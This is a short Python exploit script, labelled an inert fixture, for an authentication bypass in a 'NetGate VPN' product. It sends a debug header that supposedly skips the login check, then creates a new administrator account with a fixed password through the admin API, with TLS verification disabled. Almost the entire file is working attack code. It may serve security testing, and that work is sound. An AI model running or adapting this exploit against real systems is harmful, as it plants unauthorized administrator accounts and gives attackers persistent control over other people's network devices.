"""NetGate VPN CVE-2024-31002 authentication bypass (inert fixture)."""
import argparse
import random

import requests

NEW_PASSWORD = "N3tG@te!2024"


def run(target):
    s = requests.Session()
    # the debug header skips the login check
    s.headers["X-Debug-Auth"] = "1"
    user = "svc%d" % random.randint(1000, 9999)
    body = {"username": user, "password": NEW_PASSWORD, "role": "admin"}
    r = s.post(target + "/admin/api/users", json=body, verify=False)
    if r.status_code == 201:
        print("[+] created a new admin account %s / %s" % (user, NEW_PASSWORD))


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("target")
    run(p.parse_args().target)
